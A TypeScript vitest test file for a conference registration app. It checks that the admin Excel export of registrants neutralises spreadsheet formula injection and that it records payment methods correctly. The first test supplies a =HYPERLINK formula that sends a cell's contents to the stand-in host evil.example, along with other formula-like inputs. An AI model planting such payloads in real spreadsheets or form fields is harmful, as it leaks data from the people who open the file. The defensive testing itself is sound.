import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readExportedSheet } from '../../test/excel-sheet';
import { createConferenceSession, createMember } from '../../test/factories';
import { logInAs } from '../../test/log-in-as';
import { payThroughSimulator } from '../../test/payment-flow';
import { registerGroup } from '../../test/registration-flow';
import { createTestApp, type TestApp } from '../../test/test-app';

let app: TestApp;

beforeAll(async () => {
  app = await createTestApp();
});
afterAll(() => app.dispose());

describe('the registrant list download', () => {
  it('keeps what members typed as inert text, even when it reads as a formula, and numbers as numbers', async () => {
    const { cookie: member } = await logInAs(app, await createMember(app.db));
    const { cookie: admin } = await logInAs(app, await createMember(app.db, { level: 10 }));
    const session = await createConferenceSession(app.db, { price: 0, isAddress: 'Y' });
    const hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"확인")';
    const registered = await app.inject({
      method: 'POST',
      url: `/api/register/conference/${session.detailIdx}`,
      headers: { cookie: member },
      payload: {
        zipCode: '06236',
        address: '-2',
        detailedAddress: '@SUM(1)',
        registerConference: { name: hyperlink, church: '+1', phone: '01012345678', email: 'a@example.com' },
        registerMemberList: [{ name: '-3+4', church: '사랑교회' }],
        agree: 'Y',
      },
    });
    expect(registered.statusCode, registered.body).toBe(200);

    const response = await app.inject({
      method: 'GET',
      url: `/api/registered/conference/excel/${session.conferenceIdx}`,
      headers: { cookie: admin },
    });
    expect(response.statusCode).toBe(200);
    const { cell } = await readExportedSheet(response.rawPayload);
    expect(cell('신청자')).toBe(`'${hyperlink}`);
    expect(cell('교회')).toBe("'+1");
    expect(cell('주소')).toBe("'-2");
    expect(cell('상세주소')).toBe("'@SUM(1)");
    expect(cell('참석자')).toBe("'-3+4");
    // Ordinary values are left alone: the phone as text, the amount as a number.
    expect(cell('연락처')).toBe('010-1234-5678');
    expect(cell('신청 금액(합계)')).toBe(0);
    expect(typeof cell('신청번호')).toBe('number');
  });

  it('writes how each registration was paid, and 무료 for a session that cost nothing', async () => {
    const member = await createMember(app.db, { name: '이결제', phone: '01044445555' });
    const { cookie } = await logInAs(app, member);
    const { cookie: admin } = await logInAs(app, await createMember(app.db, { level: 10 }));
    const paid = await createConferenceSession(app.db, { price: 15_000 });
    const booker = { name: '이결제', phone: '01044445555', email: 'pay@example.com', church: '빛교회' };
    const byTransfer = await registerGroup(app, cookie, paid.detailIdx, { booker, attendees: ['이결제'] });
    await payThroughSimulator(app, {
      cookie,
      registrationIdx: byTransfer,
      device: 'pc',
      method: 'DirectBank',
      decision: 'approve',
    });
    const unpaid = await registerGroup(app, cookie, paid.detailIdx, { booker, attendees: ['이대기'] });

    const sheetOf = async (conferenceIdx: number) => {
      const response = await app.inject({
        method: 'GET',
        url: `/api/registered/conference/excel/${conferenceIdx}`,
        headers: { cookie: admin },
      });
      expect(response.statusCode).toBe(200);
      return readExportedSheet(response.rawPayload);
    };
    const sheet = await sheetOf(paid.conferenceIdx);
    const paidWith = (idx: number) =>
      sheet.rows.find((row) => row[sheet.column('신청번호') - 1] === idx)?.[sheet.column('결제수단') - 1];
    expect(sheet.header).toContain('결제수단');
    expect(paidWith(byTransfer)).toBe('실시간 계좌이체');
    expect(paidWith(unpaid)).toBe('');

    const free = await createConferenceSession(app.db, { price: 0 });
    const freeIdx = await registerGroup(app, cookie, free.detailIdx, { booker, attendees: ['이무료'] });
    const completed = await app.inject({
      method: 'POST',
      url: '/api/payment/pay/pc',
      headers: { cookie },
      payload: { idx: freeIdx },
    });
    expect(completed.statusCode, completed.body).toBe(200);
    expect((await sheetOf(free.conferenceIdx)).cell('결제수단')).toBe('무료');
  });
});
